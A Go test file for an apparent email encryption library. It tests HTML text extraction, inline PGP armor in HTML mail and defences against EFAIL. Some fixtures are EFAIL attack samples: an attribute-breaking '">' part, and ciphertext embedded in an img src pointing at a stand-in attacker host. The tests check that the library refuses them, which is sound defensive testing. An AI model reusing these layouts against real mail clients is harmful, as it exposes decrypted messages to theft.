package flow

import (
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/mailseal/mailseal/core"
	"github.com/mailseal/mailseal/mime"
)

func TestHTMLText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"<div>a</div><br><div>b</div>", "a\r\nb\r\n"},
		{"<html><head><style>p { x }</style><title>t</title></head><body>x&#43;y&nbsp;z</body></html>", "x+y z\r\n"},
		{"  <p>  one \n two  </p>\n\n<p>\u00a0</p><p>three</p>", "one two\r\nthree\r\n"},
		{"<script>-----BEGIN PGP MESSAGE-----</script>text", "text\r\n"},
		{"a<br/>b<BR>c", "a\r\nb\r\nc\r\n"},
		{"", ""},
	} {
		got, err := io.ReadAll(htmlText(strings.NewReader(c.in)))
		if err != nil || string(got) != c.want {
			t.Errorf("htmlText(%q) = %q, %v; want %q", c.in, got, err, c.want)
		}
	}
	// A token larger than the bound is an input error, not a buffer that grows.
	_, err := io.ReadAll(htmlText(strings.NewReader("<p>" + strings.Repeat("x", maxHTMLToken+10))))
	if !errors.Is(err, core.ErrInput) {
		t.Errorf("an oversized text run: %v", err)
	}
	// A long body of short tokens is read in bounded memory and linear time.
	big := strings.Repeat("<div>&nbsp; x </div><br>", 200_000)
	n, err := io.Copy(io.Discard, htmlText(strings.NewReader(big)))
	if err != nil || n != int64(len("x\r\n"))*200_000 {
		t.Errorf("long body: %d bytes, %v", n, err)
	}
}

// htmlArmor is an armored block laid out as Outlook sends inline PGP in
// HTML: one <div> per line, &nbsp; for the blank line, '+' as &#43;,
// <br> between the lines.
func htmlArmor(armor string) string {
	var b strings.Builder
	for _, line := range strings.Split(strings.TrimRight(armor, "\r\n"), "\r\n") {
		if line == "" {
			line = "&nbsp;"
		}
		b.WriteString("<div>" + strings.ReplaceAll(line, "+", "&#43;") + "</div><br>\r\n")
	}
	return b.String()
}

// TestInlineHTML: an armored message in a text/html body is found and
// decrypted, alone or as the single part of a multipart/mixed; HTML
// around it is unprotected text; beside another part it is nested
// ciphertext and not opened (EFAIL); a cleartext-signed block in HTML
// is refused, since HTML does not keep the signed text.
func TestInlineHTML(t *testing.T) {
	f := newFixture(t)
	enc := htmlArmor(f.armored(t, "Content-Type: text/plain\r\n\r\nsecret\r\n"))
	head := "From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: html\r\n"
	html := func(body string) string {
		return "Content-Type: text/html; charset=us-ascii\r\n\r\n<html><head><style>x{}</style></head><body>" + body + "</body></html>\r\n"
	}
	for _, c := range []struct {
		name, msg   string
		unprotected []string
	}{
		{"alone", head + html(enc), nil},
		{"single-part-of-mixed", head + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + html("<div>&nbsp;</div>"+enc) + "--b--\r\n", nil},
		{"text-before", head + html("<p>Hello <b>Bob</b></p>"+enc), []string{"text before the armored block"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			res := open(t, f, []byte(c.msg), Options{Decrypt: true})
			if !res.Report.Encrypted || len(res.Report.Signers) != 1 || res.Report.Signers[0].Status != core.SignerGood {
				t.Fatalf("report %+v", res.Report)
			}
			if !slices.Equal(res.Report.Unprotected, c.unprotected) {
				t.Fatalf("unprotected %q, want %q", res.Report.Unprotected, c.unprotected)
			}
			if c.unprotected != nil {
				// As for text/plain: not decrypted into the message.
				if res.Report.Status != core.StatusPartial || res.Inner != nil {
					t.Fatalf("report %+v", res.Report)
				}
				return
			}
			body, _ := io.ReadAll(res.Inner)
			if !strings.Contains(string(body), "secret") || strings.Contains(string(body), "attacker") {
				t.Fatalf("decrypted %q", body)
			}
		})
	}
	beside := head + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + html(enc) +
		"--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
	if res := open(t, f, []byte(beside), Options{Decrypt: true}); res.Report.Status != core.StatusPartial || res.Inner != nil {
		t.Fatalf("beside another part: report %+v", res.Report)
	}
	// Armor inside an attribute value is not text: nothing is found (a
	// browser shows none of it either).
	inAttr := head + html("<img src=\"http://attacker.example/"+enc+"\">")
	m := parse(t, []byte(inAttr))
	if _, err := Open(m, []Engine{f.op}, Options{Decrypt: true, Limits: mime.DefaultLimits(), MemLimit: 1 << 20}); !errors.Is(err, errNotEncrypted) {
		t.Fatalf("armor in an attribute: %v", err)
	}
	signed := head + html(htmlArmor(f.clearsigned(t, "signed text\r\n")))
	m = parse(t, []byte(signed))
	if _, err := Open(m, []Engine{f.op}, Options{Limits: mime.DefaultLimits(), MemLimit: 1 << 20}); err == nil || !strings.Contains(err.Error(), "HTML") {
		t.Fatalf("cleartext-signed in HTML: %v", err)
	}
}

// FuzzHTMLText: any body reads to an end or an error, never a panic, and
// the text is never much longer than the HTML (so scanning it stays
// linear in the input).
func FuzzHTMLText(f *testing.F) {
	f.Add("<div>-----BEGIN PGP MESSAGE-----</div><br><div>&nbsp;</div>")
	f.Add("<p a='<br>'>x&#43;&amp;&acE;</p><script><div>")
	f.Fuzz(func(t *testing.T, in string) {
		out, err := io.ReadAll(htmlText(strings.NewReader(in)))
		if err != nil && !errors.Is(err, core.ErrInput) {
			t.Fatalf("error %v", err)
		}
		if len(out) > 2*len(in)+2 {
			t.Fatalf("%d bytes of text from %d of HTML", len(out), len(in))
		}
	})
}
